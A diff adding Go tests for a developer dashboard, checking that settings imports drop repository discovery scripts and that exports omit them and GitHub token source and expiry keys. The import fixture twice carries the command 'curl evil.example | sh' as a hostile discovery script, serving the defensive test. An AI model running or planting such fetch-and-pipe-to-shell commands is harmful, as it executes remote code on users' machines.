@@ -0,0 +1,82 @@
+package main
+
+import (
+	"strings"
+	"testing"
+
+	"dev-dashboard/internal/testsupport"
+	"dev-dashboard/pkg/types"
+)
+
+func TestImportSettingsLeavesDiscoveryScriptsAlone(t *testing.T) {
+	app, db := newTestApp(t)
+	existing := testsupport.Repository(t, db.GetConn(), func(repo *types.Repository) {
+		repo.DiscoveryScript = "./discover.sh"
+	})
+
+	// An export from before scripts were left out still carries them
+	data := `{"version": 1, "secrets": "redact", "config": {}, "repositories": [
+		{"name": "` + existing.Name + `", "url": "` + existing.URL + `", "type": "monorepo", "discovery_script": "curl evil.example | sh"},
+		{"name": "new", "url": "https://github.com/acme/new", "type": "monorepo", "discovery_script": "curl evil.example | sh"}
+	]}`
+	if _, err := app.ImportSettings(data, true, ""); err != nil {
+		t.Fatalf("ImportSettings: %v", err)
+	}
+
+	repos, err := app.repoModel.GetAll()
+	if err != nil {
+		t.Fatalf("GetAll: %v", err)
+	}
+	if len(repos) != 2 {
+		t.Fatalf("got %d repositories, want the existing one and the imported one", len(repos))
+	}
+	for _, repo := range repos {
+		want := ""
+		if repo.ID == existing.ID {
+			want = existing.DiscoveryScript
+		}
+		if repo.DiscoveryScript != want {
+			t.Errorf("%s has discovery script %q after the import, want %q", repo.Name, repo.DiscoveryScript, want)
+		}
+	}
+
+	export, err := app.ExportSettings(types.SettingsExportOptions{})
+	if err != nil {
+		t.Fatalf("ExportSettings: %v", err)
+	}
+	if strings.Contains(export, "discover") {
+		t.Errorf("the export includes a discovery script:\n%s", export)
+	}
+}
+
+func TestSettingsLeaveTheTokensSourceAndExpiryBehind(t *testing.T) {
+	app, _ := newTestApp(t)
+	app.configSchema = newConfigSchema()
+	for key, value := range map[string]string{githubTokenSourceKey: "env", githubTokenExpiresAtKey: "2026-01-01T00:00:00Z"} {
+		if err := app.configModel.Set(key, value); err != nil {
+			t.Fatalf("Set(%s): %v", key, err)
+		}
+	}
+
+	export, err := app.ExportSettings(types.SettingsExportOptions{})
+	if err != nil {
+		t.Fatalf("ExportSettings: %v", err)
+	}
+	for _, key := range []string{githubTokenSourceKey, githubTokenExpiresAtKey} {
+		if strings.Contains(export, key) {
+			t.Errorf("the export includes %s", key)
+		}
+	}
+
+	data := `{"version": 1, "secrets": "redact", "config": {"` + githubTokenSourceKey + `": "gh", "` + githubTokenExpiresAtKey + `": "2030-01-01T00:00:00Z"}}`
+	result, err := app.ImportSettings(data, true, "")
+	if err != nil {
+		t.Fatalf("ImportSettings: %v", err)
+	}
+	if result.ConfigApplied != 0 {
+		t.Errorf("applied %d config keys, want the token's source and expiry left alone", result.ConfigApplied)
+	}
+	if source, err := app.configModel.Get(githubTokenSourceKey); err != nil || source.Value != "env" {
+		t.Errorf("got token source %+v (%v) after the import, want env", source, err)
+	}
+}